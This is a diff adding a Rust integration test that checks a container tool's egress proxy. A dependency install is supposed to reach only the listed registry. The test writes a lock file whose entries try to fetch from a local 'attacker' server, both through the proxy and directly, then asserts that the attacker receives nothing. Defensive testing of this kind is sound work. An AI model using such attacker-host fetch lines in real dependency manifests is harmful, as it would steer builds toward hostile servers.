@@ -401,3 +401,139 @@ fn a_new_link_through_a_link_of_the_snapshot_is_resolved_with_it() {
         "{m:?}"
     );
 }
+
+/// A change that edits the dependency manifests is installed with no way out but the egress
+/// proxy, which allows the profile's registries alone: the install reaches the listed server,
+/// and neither through the proxy nor directly the attacker's, which receives nothing; an
+/// install that needed the attacker's server fails, naming what the proxy refused.
+#[test]
+fn a_changes_dependency_install_reaches_only_the_profiles_registries() {
+    require_base_image();
+    let servers = crate::attack::Servers::start("registries", &["registry", "attacker"]);
+    // The install's proxy reaches out through the engine's default network.
+    let default = if on_podman() { "podman" } else { "bridge" };
+    let ip = |name: &str| {
+        docker(&["network", "connect", default, name]);
+        docker(&[
+            "inspect",
+            "-f",
+            &format!("{{{{.NetworkSettings.Networks.{default}.IPAddress}}}}"),
+            name,
+        ])
+        .trim()
+        .to_string()
+    };
+    let (registry, attacker) = (ip(&servers.names[0]), ip(&servers.names[1]));
+    assert!(!registry.is_empty() && !attacker.is_empty());
+    let repo = TestRepo::with_project("attack-registries");
+    repo.write(
+        ".boxdelegate/profiles/probe.toml",
+        &format!(
+            r#"description = "probe: fetches the URLs deps.lock lists"
+image = "boxdelegate/python:bookworm"
+build = "python"
+manifests = ["deps.lock"]
+registries = ["{registry}:8000"]
+install = '''
+python3 - <<'PY'
+import sys, urllib.request
+direct = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
+failed = []
+for line in open("deps.lock").read().split():
+    how, _, url = line.partition(":")
+    if not url:
+        continue
+    try:
+        (direct.open if how == "direct" else urllib.request.urlopen)(url, timeout=10)
+        print("fetched", line)
+    except Exception as e:
+        print("failed", line, e)
+        failed.append(how)
+open("/deps/fetched.txt", "w").write("done\n")
+sys.exit(1 if "must" in failed else 0)
+PY
+'''
+
+[checks]
+lint = "cat /deps/fetched.txt"
+"#
+        ),
+    );
+    repo.write(
+        "boxdelegate.toml",
+        &format!(
+            "[project]\nprofile = \"probe\"\n\n[agent]\nretries = 0\nkind = \"command\"\ncommand = {}\n\n[run]\ninfra_retries = 0\n",
+            toml_string(&format!(
+                "if [ \"$BOXDELEGATE_UNIT_ID\" = fetch ]; then printf 'must:http://{registry}:8000/ok.txt\\ntry:http://{attacker}:8000/via-proxy\\ndirect:http://{attacker}:8000/direct\\n' >> deps.lock; else echo 'must:http://{attacker}:8000/needed' >> deps.lock; fi"
+            ))
+        ),
+    );
+    repo.unit("fetch", "scope = [\"deps.lock\"]", "Add a dependency.");
+    repo.unit("needs-attacker", "scope = [\"deps.lock\"]", "Add another.");
+    // A manifest of this run's own, so no dependency image of an earlier run (the servers'
+    // addresses come again) stands in for the install.
+    let nanos = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_nanos();
+    repo.write(
+        "deps.lock",
+        &format!("# run {nanos} {}\n", std::process::id()),
+    );
+    repo.commit("project");
+
+    let (code, units, err) = repo.run(&["--unit", "fetch"]);
+    assert_eq!(code, 0, "{err}\n{units:?}");
+    assert_eq!(units[0]["status"], "landed", "{}", units[0]);
+    let record: serde_json::Value = serde_json::from_slice(
+        &std::fs::read(
+            repo.path()
+                .join(".git/boxdelegate/verify")
+                .join(format!("{}.json", units[0]["record"].as_str().unwrap())),
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    repo.remember_image(record["change_image"].as_str().unwrap());
+    let refs = repo.refs();
+    let (code, units, err) = repo.run(&["--unit", "needs-attacker"]);
+    let u = &units[0];
+    assert_eq!(code, 15, "{err}\n{u}");
+    assert_eq!(u["status"], "verify-failed", "{u}");
+    let m = u["message"].as_str().unwrap();
+    assert!(
+        m.contains(&format!(
+            "the proxy refused: GET http://{attacker}:8000/needed"
+        )) && m.contains(&format!("to the profile's registries ({registry}:8000)")),
+        "{m}"
+    );
+    assert_eq!(repo.refs(), refs, "nothing landed");
+
+    let logs = |name: &str| {
+        let out = std::process::Command::new("docker")
+            .args(["logs", name])
+            .output()
+            .unwrap();
+        format!("{}{}", stdout(&out), stderr(&out))
+    };
+    let reg = logs(&servers.names[0]);
+    assert!(reg.contains("GET /ok.txt"), "the registry served: {reg}");
+    let att = logs(&servers.names[1]);
+    assert!(
+        !att.contains("GET") && !att.contains("CONNECT"),
+        "the attacker's server received nothing: {att}"
+    );
+    // No proxy of this test's installs is left.
+    let left = docker(&[
+        "ps",
+        "-aq",
+        "--filter",
+        "label=boxdelegate.kind=proxy",
+        "--filter",
+        &format!(
+            "label=boxdelegate.deps-key={}",
+            record["change_deps_key"].as_str().unwrap()
+        ),
+    ]);
+    assert!(left.trim().is_empty(), "{left}");
+}
